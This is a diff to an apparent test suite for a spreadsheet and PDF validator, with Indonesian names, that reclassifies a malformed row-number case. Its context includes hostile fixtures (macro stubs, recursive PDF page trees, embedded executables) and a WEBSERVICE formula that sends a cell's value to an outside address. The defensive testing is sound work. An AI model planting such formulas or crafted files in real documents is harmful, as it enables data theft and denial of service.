@@ -233,7 +233,6 @@ BAD: Mapping[str, tuple[Callable[[], bytes], str]] = {
         "cells",
     ),
     "alamat_palsu": (lambda: xlsx('<row r="1"><c r="ZZZZ9" t="n"><v>1</v></c></row>'), "alamat sel"),
-    "nomor_baris_palsu": (lambda: xlsx('<row r="x"><c r="A1"><v>1</v></c></row>'), "rusak"),
     "pdf_10000_halaman": (lambda: pages(10_000), "pages"),
     "pdf_pohon_berputar": (
         lambda: pdf({1: _CATALOG, 2: b"<</Type/Pages/Count 5/Kids[2 0 R 2 0 R]>>"}),
@@ -301,6 +300,7 @@ _WEB = '<c r="C3"><f>WEBSERVICE("http://192.0.2.1/?"&amp;B2)</f></c>'
 
 # name -> (bytes, a part of a notice or ""). What looks bad and is read all the same: one row, A.1.1.A.
 ODD: Mapping[str, tuple[Callable[[], bytes], str]] = {
+    "nomor_baris_palsu": (lambda: xlsx(LKE.replace('<row r="1"', '<row r="x"')), ""),
     "makro": (lambda: xlsx(LKE, xl__vbaProject_bin=b"Sub Auto_Open()"), "makro"),
     "objek_sisipan": (lambda: xlsx(LKE, xl__embeddings__a=b"MZ"), "objek yang disisipkan"),
     "tautan_buku_lain": (lambda: xlsx(LKE, xl__externalLinks__a="<x/>"), "buku kerja lain"),
